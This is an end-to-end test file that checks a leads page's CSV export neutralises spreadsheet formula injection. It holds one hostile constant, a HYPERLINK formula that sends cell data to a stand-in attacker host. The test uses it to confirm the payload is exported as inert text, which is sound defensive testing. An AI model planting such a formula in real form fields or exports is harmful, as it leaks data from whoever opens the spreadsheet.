// Leads → Export CSV: a lead with a hostile answer (a spreadsheet formula) is submitted through the
// public submissions API; the leads page's button downloads the table as CSV with the expected
// header, and the hostile answer arrives as inert text (a leading apostrophe), never a formula.
import fs from "node:fs";
import { BANK_VP } from "../prisma/seed/demo-answers";
import { expect, signInAs, test } from "./fixtures";

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const TABLE_COLUMNS = "Submitted (UTC),Name,Email,Phone,Company,Owner,Status,Form,Tier,Score,Source,Repeat,Spam,Lead ID";

/** RFC 4180 cells of one CSV line (quoted fields with doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    const raw = m[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (m[2] === "") break;
  }
  return out;
}

test("the leads page's Export CSV downloads the table with its header; a hostile answer is inert", async ({ page }) => {
  const email = `csv-${Date.now()}@hostile-bank.com`;
  const submitted = await page.request.post("/api/v1/forms/demo/submissions", {
    data: {
      answers: { ...BANK_VP, email, full_name: "Hostile Tester", company: "Hostile Bank", details: HOSTILE },
      context: { fillTimeMs: 20_000, source: "api" },
    },
  });
  expect(submitted.status()).toBe(201);
  const { leadId } = (await submitted.json()) as { leadId: string };

  await signInAs(page, "manager");
  await page.goto("/leads");
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Export CSV" }).click()]);
  expect(download.suggestedFilename()).toMatch(/^leads-\d{4}-\d{2}-\d{2}\.csv$/);
  const text = fs.readFileSync((await download.path())!, "utf8").replace(/^\uFEFF/, "");
  const [header, ...rows] = text.split("\r\n").filter(Boolean);
  expect(header!.startsWith(`${TABLE_COLUMNS},answers.`)).toBe(true);
  const columns = cells(header!);
  expect(columns).toContain("answers.details");

  const row = rows.find((r) => r.includes(leadId));
  expect(row).toBeDefined();
  const byColumn = Object.fromEntries(cells(row!).map((value, i) => [columns[i], value]));
  expect(byColumn).toMatchObject({ Email: email, Company: "Hostile Bank", "Lead ID": leadId });
  expect(byColumn["answers.details"]).toBe(`'${HOSTILE}`);
  // No text cell of this lead starts with a formula character.
  for (const value of Object.values(byColumn)) expect(value).not.toMatch(/^[=+@\t\r]/);
});
